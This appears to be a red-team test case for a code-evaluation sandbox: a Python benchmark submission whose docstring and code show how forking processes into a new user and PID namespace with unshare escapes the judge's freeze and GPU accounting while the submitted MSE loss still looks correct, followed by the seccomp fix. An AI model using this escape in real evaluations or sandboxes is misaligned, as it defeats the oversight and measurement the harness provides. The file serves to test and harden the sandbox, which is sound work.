"""Attack: escape the freeze (and the judge's per-process view of the GPU) from a nested PID
namespace (94_MSELoss).

Problem: examples/problems/level1/94_MSELoss.py

A helper calls unshare(CLONE_NEWUSER | CLONE_NEWPID) and forks burners there. Their
/proc/<pid>/ns/pid is not the sandbox's namespace, so the SIGSTOP freeze, which lists the
sandbox's processes by that link, never stops them, and on the GPU the judge's NVML view would
take a CUDA context in such a process for another tenant's (device_busy downgraded to a warning,
its memory left out of process_bytes). The burners run while the candidate's own process is
stopped; forward prints unshare's result and the chunks burned.
Verdict kbv gave (red team, 2026-12-02, CPU): unshare returned 0 under Landlock, seccomp and
dropped capabilities; 788 chunks burned while "frozen"; the null call 15 ms; correct,
`sandbox_frozen` true. WORKED.

Fixed: the sandbox's seccomp filter denies unshare, setns and clone with any CLONE_NEW* flag
(clone3 is "not implemented", glibc falls back to clone). kbv must conclude: unshare refused
(EPERM), the helper's burners are ordinary sandbox processes and frozen; correct.
Isolation.NoNewNamespacesInsideTheSandbox.
"""
import ctypes, mmap, os, struct, sys, time
import torch
import torch.nn as nn

_cnt = mmap.mmap(-1, 16)
_libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWUSER, CLONE_NEWPID = 0x10000000, 0x20000000
_runner = os.getpid()

def _stopped():
    try:
        with open(f"/proc/{_runner}/stat") as f:
            s = f.read()
        return s[s.rfind(")") + 2] in "Tt"
    except OSError:
        os._exit(0)

def _burn():
    x = 0
    while True:
        if _stopped():
            for _ in range(20000):
                x += 1
            _cnt[0:8] = struct.pack('q', struct.unpack('q', _cnt[0:8])[0] + 1)
        else:
            time.sleep(0.0005)

if os.fork() == 0:
    try:
        rc = _libc.unshare(CLONE_NEWUSER | CLONE_NEWPID)
        _cnt[8:16] = struct.pack('q', rc if rc == 0 else -ctypes.get_errno())
        for _ in range(3):
            if os.fork() == 0:
                try:
                    _burn()
                finally:
                    os._exit(0)
        while True:
            time.sleep(1)
    finally:
        os._exit(0)

class ModelNew(nn.Module):
    def forward(self, predictions, targets):
        print('unshare', struct.unpack('q', _cnt[8:16])[0], 'burn-chunks-while-runner-stopped',
              struct.unpack('q', _cnt[0:8])[0], file=sys.stderr, flush=True)
        return torch.mean((predictions - targets) ** 2)
